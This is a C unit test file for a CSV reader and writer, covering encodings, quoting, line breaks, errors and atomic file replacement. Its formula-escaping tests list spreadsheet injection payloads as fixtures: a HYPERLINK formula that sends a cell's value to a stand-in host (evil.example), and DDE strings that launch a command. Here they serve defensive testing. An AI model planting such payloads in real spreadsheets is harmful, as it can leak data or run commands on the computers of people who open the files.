/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-csv"

#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "st-csv.h"

static StCsvReader *
open_data (const char  *file_name,
           GError     **error)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "csv", file_name, NULL);

  return st_csv_reader_new_for_path (path, error);
}

static StCsvReader *
open_string (const char *text,
             gssize      length)
{
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  StCsvReader *reader;

  if (length < 0)
    length = strlen (text);
  bytes = g_bytes_new (text, length);
  reader = st_csv_reader_new_for_bytes (bytes, "inline.csv", &error);
  g_assert_no_error (error);
  g_assert_nonnull (reader);
  return reader;
}

/* Reads the next record and checks that it starts on @line and holds exactly
 * the NULL-terminated @expected fields. */
static void
assert_record (StCsvReader *reader,
               guint        expected_line,
               ...)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) expected = g_ptr_array_new ();
  const char *const *fields;
  const char *field;
  guint n_fields = 0;
  guint line = 0;
  va_list args;

  va_start (args, expected_line);
  while ((field = va_arg (args, const char *)) != NULL)
    g_ptr_array_add (expected, (gpointer) field);
  va_end (args);
  g_ptr_array_add (expected, NULL);

  fields = st_csv_reader_next (reader, &n_fields, &line, &error);
  g_assert_no_error (error);
  g_assert_nonnull (fields);
  g_assert_cmpuint (line, ==, expected_line);
  g_assert_cmpuint (n_fields, ==, expected->len - 1);
  g_assert_cmpstrv (fields, (const char *const *) expected->pdata);
}

static void
assert_end (StCsvReader *reader)
{
  g_autoptr(GError) error = NULL;
  guint n_fields = 99;

  g_assert_null (st_csv_reader_next (reader, &n_fields, NULL, &error));
  g_assert_no_error (error);
  /* The end stays the end. */
  g_assert_null (st_csv_reader_next (reader, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpfloat (st_csv_reader_get_fraction (reader), ==, 1.0);
}

static void
test_utf8 (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("utf8.csv", &error);

  g_assert_no_error (error);
  g_assert_cmpint (st_csv_reader_get_encoding (reader), ==, ST_CSV_ENCODING_UTF8);
  g_assert_cmpfloat (st_csv_reader_get_fraction (reader), ==, 0.0);
  assert_record (reader, 1, "姓名", "身份证号", "乡镇", "村", NULL);
  g_assert_cmpfloat (st_csv_reader_get_fraction (reader), >, 0.0);
  g_assert_cmpfloat (st_csv_reader_get_fraction (reader), <, 0.5);
  assert_record (reader, 2, "张三", "522327199001011234", "者楼街道", "者楼村", NULL);
  assert_record (reader, 3, "李四", "522327198502022345", "巧马镇", "巧马村", NULL);
  assert_end (reader);
}

static void
test_utf8_bom (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("utf8-bom.csv", &error);

  g_assert_no_error (error);
  g_assert_cmpint (st_csv_reader_get_encoding (reader), ==, ST_CSV_ENCODING_UTF8_BOM);
  /* The BOM is not part of the first header name. */
  assert_record (reader, 1, "姓名", "身份证号", "乡镇", "村", NULL);
  assert_record (reader, 2, "张三", "522327199001011234", "者楼街道", "者楼村", NULL);
  assert_record (reader, 3, "李四", "522327198502022345", "巧马镇", "巧马村", NULL);
  assert_end (reader);
}

static void
test_gb18030 (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("gb18030.csv", &error);

  g_assert_no_error (error);
  g_assert_cmpint (st_csv_reader_get_encoding (reader), ==, ST_CSV_ENCODING_GB18030);
  assert_record (reader, 1, "姓名", "乡镇", "村", "备注", NULL);
  assert_record (reader, 2, "张三", "者楼街道", "者楼村", "", NULL);
  /* 𠮷 is a four-byte GB18030 character that GBK lacks. */
  assert_record (reader, 3, "吉𠮷", "巧马镇", "巧马村", "有逗号,的备注", NULL);
  assert_end (reader);
}

static void
test_quoted (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("quoted.csv", &error);

  g_assert_no_error (error);
  assert_record (reader, 1, "姓名", "备注", "电话", NULL);
  assert_record (reader, 2, "张三", "他说\"你好\"", "13800000000", NULL);
  assert_record (reader, 3, "李四", "第一行\r\n第二行\r\n第三行", "13900000000", NULL);
  /* The three-line field pushes the next record to line 6. */
  assert_record (reader, 6, "王五", "逗号,在里面", "", NULL);
  assert_record (reader, 7, "", "", "  前后空格  ", NULL);
  assert_record (reader, 8, "赵六", "末行", "1", NULL);
  assert_end (reader);
}

static void
test_quote_oddities (void)
{
  g_autoptr(StCsvReader) reader = NULL;

  /* Excel's reading of sloppy quoting: a quote inside an unquoted field is
   * text, text after a closing quote is appended, "" alone is empty. */
  reader = open_string ("ab\"c,\"x\"y,\"\"\n\"\"\"\",\"a\nb\"\n", -1);
  assert_record (reader, 1, "ab\"c", "xy", "", NULL);
  assert_record (reader, 2, "\"", "a\nb", NULL);
  assert_end (reader);
}

static void
test_cr_only (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("cr.csv", &error);

  g_assert_no_error (error);
  assert_record (reader, 1, "a", "b", NULL);
  assert_record (reader, 2, "c", "d", NULL);
  /* Line 3 is empty; the quoted CR makes the field span lines 4 and 5. */
  assert_record (reader, 4, "x\ry", "z", NULL);
  /* No line break after the last record. */
  assert_record (reader, 6, "e", "f", NULL);
  assert_end (reader);
}

static void
test_blank_lines (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("blank-lines.csv", &error);

  g_assert_no_error (error);
  assert_record (reader, 3, "a", "b", NULL);
  /* A line of commas is a record of empty fields; the caller decides. */
  assert_record (reader, 6, "", "", "", NULL);
  assert_record (reader, 7, "c", "d", NULL);
  assert_end (reader);
}

static void
test_trailing_comma (void)
{
  g_autoptr(StCsvReader) reader = open_string ("a,\r\n,b\r\nc,", -1);

  assert_record (reader, 1, "a", "", NULL);
  assert_record (reader, 2, "", "b", NULL);
  assert_record (reader, 3, "c", "", NULL);
  assert_end (reader);
}

static void
test_unterminated (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("unterminated.csv", &error);

  g_assert_no_error (error);
  assert_record (reader, 1, "a", "b", NULL);
  assert_record (reader, 2, "c", "ok\nstill ok", "d", NULL);

  g_assert_null (st_csv_reader_next (reader, NULL, NULL, &error));
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_UNTERMINATED);
  g_assert_nonnull (strstr (error->message, "unterminated.csv"));
  g_assert_nonnull (strstr (error->message, "line 4"));
  g_clear_error (&error);

  /* After the error the reader is at its end. */
  g_assert_null (st_csv_reader_next (reader, NULL, NULL, &error));
  g_assert_no_error (error);
}

static void
test_unterminated_later_field (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = NULL;

  /* The record starts on line 1, the open quote on line 2. */
  reader = open_string ("\"two\nlines\",\"open\n\n", -1);
  g_assert_null (st_csv_reader_next (reader, NULL, NULL, &error));
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_UNTERMINATED);
  g_assert_nonnull (strstr (error->message, "inline.csv"));
  g_assert_nonnull (strstr (error->message, "line 2"));
}

static void
test_bad_encoding (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("bad-encoding.csv", &error);
  g_autoptr(GBytes) utf16 = NULL;

  g_assert_null (reader);
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_BAD_ENCODING);
  g_assert_nonnull (strstr (error->message, "bad-encoding.csv"));
  g_assert_nonnull (strstr (error->message, "CSV UTF-8"));
  g_assert_nonnull (strstr (error->message, "GB18030"));
  g_clear_error (&error);

  /* UTF-16 without a BOM "converts" from GB18030, but with NUL bytes. */
  utf16 = g_bytes_new ("a\0,\0b\0\r\0\n\0", 10);
  g_assert_null (st_csv_reader_new_for_bytes (utf16, "utf16.csv", &error));
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_BAD_ENCODING);
  g_assert_nonnull (strstr (error->message, "utf16.csv"));
  g_clear_error (&error);

  /* A BOM followed by something that is not UTF-8. */
  {
    g_autoptr(GBytes) bom = g_bytes_new ("\xEF\xBB\xBF\xD5\xC5", 5);

    g_assert_null (st_csv_reader_new_for_bytes (bom, "bom.csv", &error));
    g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_BAD_ENCODING);
  }
}

static void
test_empty (void)
{
  const char *empties[] = { "", "\xEF\xBB\xBF", "\r\n\r\n", "\n", "\r" };
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = open_data ("empty.csv", &error);

  g_assert_null (reader);
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_EMPTY);
  g_assert_nonnull (strstr (error->message, "empty.csv"));
  g_clear_error (&error);

  for (guint i = 0; i < G_N_ELEMENTS (empties); i++)
    {
      g_autoptr(GBytes) bytes = g_bytes_new_static (empties[i], strlen (empties[i]));

      g_assert_null (st_csv_reader_new_for_bytes (bytes, "blank.csv", &error));
      g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_EMPTY);
      g_clear_error (&error);
    }

  /* One space is a record. */
  {
    g_autoptr(StCsvReader) space = open_string (" ", -1);

    assert_record (space, 1, " ", NULL);
    assert_end (space);
  }
}

static void
test_missing_file (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (g_get_user_data_dir (), "no-such.csv", NULL);

  g_assert_null (st_csv_reader_new_for_path (path, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOENT);
  g_assert_nonnull (strstr (error->message, "no-such.csv"));
}

static void
test_fraction (void)
{
  g_autoptr(GString) text = g_string_new (NULL);
  g_autoptr(StCsvReader) reader = NULL;
  double previous = 0.0;
  guint n_records = 0;

  for (guint i = 0; i < 1000; i++)
    g_string_append_printf (text, "%u,row %u\r\n", i, i);
  reader = open_string (text->str, text->len);

  while (st_csv_reader_next (reader, NULL, NULL, NULL) != NULL)
    {
      double fraction = st_csv_reader_get_fraction (reader);

      g_assert_cmpfloat (fraction, >, previous);
      previous = fraction;
      n_records++;
      if (n_records == 500)
        g_assert_cmpfloat_with_epsilon (fraction, 0.5, 0.01);
    }
  g_assert_cmpuint (n_records, ==, 1000);
  g_assert_cmpfloat (st_csv_reader_get_fraction (reader), ==, 1.0);
}

/* Writer */

static char *
scratch_path (const char *file_name)
{
  /* G_TEST_OPTION_ISOLATE_DIRS gives each test its own, removed afterwards. */
  const char *dir = g_get_user_data_dir ();

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  return g_build_filename (dir, file_name, NULL);
}

static GBytes *
read_bytes (const char *path)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;
  gsize length = 0;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  return g_bytes_new_take (contents, length);
}

static void
assert_no_tmp (const char *path)
{
  g_autofree char *tmp = g_strconcat (path, ".tmp", NULL);

  g_assert_false (g_file_test (tmp, G_FILE_TEST_EXISTS));
}

static const char *const row_header[] = { "姓名", "乡镇", "备注", NULL };
static const char *const row_tricky[] = { "张三", "a,b", "say \"hi\"", NULL };
static const char *const row_breaks[] = { "line1\r\nline2", "cr\ronly", "lf\nonly", NULL };
static const char *const row_spaces[] = { " lead", "trail ", "", "吉𠮷", NULL };
static const char *const row_single[] = { "", NULL };
static const char *const *const all_rows[] = {
  row_header, row_tricky, row_breaks, row_spaces, row_single,
};

static void
write_rows (const char    *path,
            StCsvEncoding  encoding)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, encoding, &error);

  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (all_rows); i++)
    {
      st_csv_writer_write_row (writer, all_rows[i], g_strv_length ((char **) all_rows[i]), &error);
      g_assert_no_error (error);
    }
  g_assert_true (st_csv_writer_close (writer, &error));
  g_assert_no_error (error);
}

static void
assert_round_trip (const char    *path,
                   StCsvEncoding  encoding)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvReader) reader = st_csv_reader_new_for_path (path, &error);
  guint expected_line = 1;

  g_assert_no_error (error);
  g_assert_cmpint (st_csv_reader_get_encoding (reader), ==, encoding);
  for (guint i = 0; i < G_N_ELEMENTS (all_rows); i++)
    {
      const char *const *fields;
      guint n_fields = 0;
      guint line = 0;

      fields = st_csv_reader_next (reader, &n_fields, &line, &error);
      g_assert_no_error (error);
      g_assert_nonnull (fields);
      g_assert_cmpuint (line, ==, expected_line);
      g_assert_cmpuint (n_fields, ==, g_strv_length ((char **) all_rows[i]));
      g_assert_cmpstrv (fields, all_rows[i]);
      /* The row with CRLF, CR and LF inside fields spans four lines. */
      expected_line += (all_rows[i] == row_breaks) ? 4 : 1;
    }
  assert_end (reader);
}

static void
test_writer_quoting (void)
{
  g_autofree char *path = scratch_path ("quoting.csv");
  g_autoptr(GBytes) bytes = NULL;
  const char expected[] =
    "姓名,乡镇,备注\r\n"
    "张三,\"a,b\",\"say \"\"hi\"\"\"\r\n"
    "\"line1\r\nline2\",\"cr\ronly\",\"lf\nonly\"\r\n"
    "\" lead\",\"trail \",,吉𠮷\r\n"
    "\"\"\r\n";

  write_rows (path, ST_CSV_ENCODING_UTF8);
  assert_no_tmp (path);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                   expected, sizeof expected - 1);
}

static void
test_writer_null_field (void)
{
  const char *const fields[] = { "a", NULL, "c" };
  g_autofree char *path = scratch_path ("null.csv");
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_autoptr(GBytes) bytes = NULL;

  g_assert_no_error (error);
  g_assert_true (st_csv_writer_write_row (writer, fields, 3, &error));
  g_assert_true (st_csv_writer_close (writer, &error));
  g_assert_no_error (error);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "a,,c\r\n", 6);
}

static void
test_writer_utf8 (void)
{
  g_autofree char *path = scratch_path ("utf8.csv");
  g_autoptr(GBytes) bytes = NULL;

  write_rows (path, ST_CSV_ENCODING_UTF8);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), 6, "姓名", 6);
  assert_round_trip (path, ST_CSV_ENCODING_UTF8);
}

static void
test_writer_utf8_bom (void)
{
  g_autofree char *path = scratch_path ("utf8-bom.csv");
  g_autoptr(GBytes) bytes = NULL;

  write_rows (path, ST_CSV_ENCODING_UTF8_BOM);
  assert_no_tmp (path);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), 9, "\xEF\xBB\xBF姓名", 9);
  assert_round_trip (path, ST_CSV_ENCODING_UTF8_BOM);
}

static void
test_writer_gb18030 (void)
{
  g_autofree char *path = scratch_path ("gb18030.csv");
  g_autoptr(GBytes) bytes = NULL;
  const char *data;
  gsize length = 0;

  write_rows (path, ST_CSV_ENCODING_GB18030);
  assert_no_tmp (path);
  bytes = read_bytes (path);
  data = g_bytes_get_data (bytes, &length);
  g_assert_false (g_utf8_validate_len (data, length, NULL));
  /* 姓名 is D0D5 C3FB; 张三 starts the second line as D5C5 C8FD; 𠮷 is the
   * four-byte sequence 95 34 B2 35. */
  g_assert_cmpmem (data, 4, "\xD0\xD5\xC3\xFB", 4);
  g_assert_nonnull (memmem (data, length, "\r\n\xD5\xC5\xC8\xFD,", 7));
  g_assert_nonnull (memmem (data, length, "\x95\x34\xB2\x35", 4));
  assert_round_trip (path, ST_CSV_ENCODING_GB18030);
}

static void
test_writer_replaces_atomically (void)
{
  const char *const old_row[] = { "old" };
  const char *const new_row[] = { "new" };
  g_autofree char *path = scratch_path ("replace.csv");
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  StCsvWriter *writer;

  writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_assert_no_error (error);
  g_assert_true (st_csv_writer_write_row (writer, old_row, 1, &error));
  g_assert_true (st_csv_writer_close (writer, &error));
  st_csv_writer_free (writer);

  /* A writer dropped before close leaves the old file as it was. */
  writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_assert_no_error (error);
  g_assert_true (st_csv_writer_write_row (writer, new_row, 1, &error));
  st_csv_writer_free (writer);
  assert_no_tmp (path);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "old\r\n", 5);
  g_clear_pointer (&bytes, g_bytes_unref);

  /* Closing replaces it. */
  writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_assert_no_error (error);
  g_assert_true (st_csv_writer_write_row (writer, new_row, 1, &error));
  g_assert_true (st_csv_writer_close (writer, &error));
  g_assert_no_error (error);
  st_csv_writer_free (writer);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "new\r\n", 5);
}

static void
test_writer_errors (void)
{
  const char *const bad_row[] = { "ok", "\xFF\xFE" };
  g_autofree char *missing_dir = scratch_path ("no-such-dir");
  g_autofree char *unwritable = g_build_filename (missing_dir, "out.csv", NULL);
  g_autofree char *path = scratch_path ("invalid.csv");
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvWriter) writer = NULL;

  g_assert_null (st_csv_writer_new (unwritable, ST_CSV_ENCODING_UTF8, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "out.csv"));
  g_clear_error (&error);

  writer = st_csv_writer_new (path, ST_CSV_ENCODING_GB18030, &error);
  g_assert_no_error (error);
  g_assert_false (st_csv_writer_write_row (writer, bad_row, 2, &error));
  g_assert_error (error, ST_CSV_ERROR, ST_CSV_ERROR_ENCODE);
  g_assert_nonnull (strstr (error->message, "invalid.csv"));
  g_assert_nonnull (strstr (error->message, "row 1"));
}

/* Cells a spreadsheet would run as formulas are written as text (a
 * leading '), and read back as they were. */
static const char *const formula_cells[] = {
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
  "=cmd|' /C calc'!A0",
  "+86 138 0000 0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
  "''-two quotes",
  "-3",
  NULL,
};
static const char *const formula_written[] = {
  "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\"",
  "'=cmd|' /C calc'!A0",
  "'+86 138 0000 0000",
  "'-2+3+cmd|' /C calc'!A0",
  "'@SUM(1+1)*cmd|' /C calc'!A0",
  "'\t=1+1",
  "\"'\r=1+1\"",
  "''=already quoted",
  "'''-two quotes",
  "'-3",
};

static void
test_writer_formulas (void)
{
  g_autofree char *path = scratch_path ("formulas.csv");
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_autoptr(StCsvReader) reader = NULL;
  g_autoptr(GString) expected = g_string_new (NULL);
  g_autoptr(GBytes) bytes = NULL;
  const char *const *fields;
  guint n_fields = 0;

  g_assert_no_error (error);
  for (guint i = 0; formula_cells[i] != NULL; i++)
    {
      const char *row[] = { "a", formula_cells[i] };

      g_assert_true (st_csv_writer_write_row (writer, row, 2, &error));
      g_assert_no_error (error);
      g_string_append_printf (expected, "a,%s\r\n", formula_written[i]);
    }
  g_assert_true (st_csv_writer_close (writer, &error));
  g_assert_no_error (error);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), expected->str, expected->len);

  reader = st_csv_reader_new_for_path (path, &error);
  g_assert_no_error (error);
  for (guint i = 0; formula_cells[i] != NULL; i++)
    {
      fields = st_csv_reader_next (reader, &n_fields, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (n_fields, ==, 2);
      g_assert_cmpstr (fields[1], ==, formula_cells[i]);
    }
  assert_end (reader);
}

/* A figure of kind number stays a number ("-3" is no formula); text in a
 * number field is text all the same. */
static void
test_writer_numbers (void)
{
  const char *const row[] = { "-3", "-7.5", "12", "-3", "-1+cmd|' /C calc'!A0", "=1+1", "-" };
  const StCsvFieldKind kinds[] = {
    ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_TEXT,
    ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER,
  };
  const char expected[] = "-3,-7.5,12,'-3,'-1+cmd|' /C calc'!A0,'=1+1,'-\r\n";
  g_autofree char *path = scratch_path ("numbers.csv");
  g_autoptr(GError) error = NULL;
  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
  g_autoptr(GBytes) bytes = NULL;

  g_assert_no_error (error);
  g_assert_true (st_csv_writer_write_row_kinds (writer, row, kinds, G_N_ELEMENTS (row), &error));
  g_assert_true (st_csv_writer_close (writer, &error));
  g_assert_no_error (error);
  bytes = read_bytes (path);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), expected, sizeof expected - 1);
}

/* A file someone else wrote: the reader drops only the one ' that stands
 * before a formula character, nothing else. */
static void
test_reader_formula_quote (void)
{
  g_autoptr(StCsvReader) reader = open_string ("'=a,'b,'',=c,-d,''@e,x'=y\n", -1);

  assert_record (reader, 1, "=a", "'b", "''", "=c", "-d", "'@e", "x'=y", NULL);
  assert_end (reader);
}

static void
test_encoding_names (void)
{
  g_assert_cmpstr (st_csv_encoding_to_string (ST_CSV_ENCODING_UTF8), ==, "UTF-8");
  g_assert_cmpstr (st_csv_encoding_to_string (ST_CSV_ENCODING_UTF8_BOM), ==, "UTF-8-BOM");
  g_assert_cmpstr (st_csv_encoding_to_string (ST_CSV_ENCODING_GB18030), ==, "GB18030");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/core/csv/read/utf8", test_utf8);
  g_test_add_func ("/core/csv/read/utf8-bom", test_utf8_bom);
  g_test_add_func ("/core/csv/read/gb18030", test_gb18030);
  g_test_add_func ("/core/csv/read/quoted", test_quoted);
  g_test_add_func ("/core/csv/read/quote-oddities", test_quote_oddities);
  g_test_add_func ("/core/csv/read/cr-only", test_cr_only);
  g_test_add_func ("/core/csv/read/blank-lines", test_blank_lines);
  g_test_add_func ("/core/csv/read/trailing-comma", test_trailing_comma);
  g_test_add_func ("/core/csv/read/unterminated", test_unterminated);
  g_test_add_func ("/core/csv/read/unterminated-later-field", test_unterminated_later_field);
  g_test_add_func ("/core/csv/read/bad-encoding", test_bad_encoding);
  g_test_add_func ("/core/csv/read/empty", test_empty);
  g_test_add_func ("/core/csv/read/missing-file", test_missing_file);
  g_test_add_func ("/core/csv/read/fraction", test_fraction);
  g_test_add_func ("/core/csv/write/quoting", test_writer_quoting);
  g_test_add_func ("/core/csv/write/null-field", test_writer_null_field);
  g_test_add_func ("/core/csv/write/utf8", test_writer_utf8);
  g_test_add_func ("/core/csv/write/utf8-bom", test_writer_utf8_bom);
  g_test_add_func ("/core/csv/write/gb18030", test_writer_gb18030);
  g_test_add_func ("/core/csv/write/replaces-atomically", test_writer_replaces_atomically);
  g_test_add_func ("/core/csv/write/errors", test_writer_errors);
  g_test_add_func ("/core/csv/write/formulas", test_writer_formulas);
  g_test_add_func ("/core/csv/write/numbers", test_writer_numbers);
  g_test_add_func ("/core/csv/read/formula-quote", test_reader_formula_quote);
  g_test_add_func ("/core/csv/encoding-names", test_encoding_names);

  return g_test_run ();
}
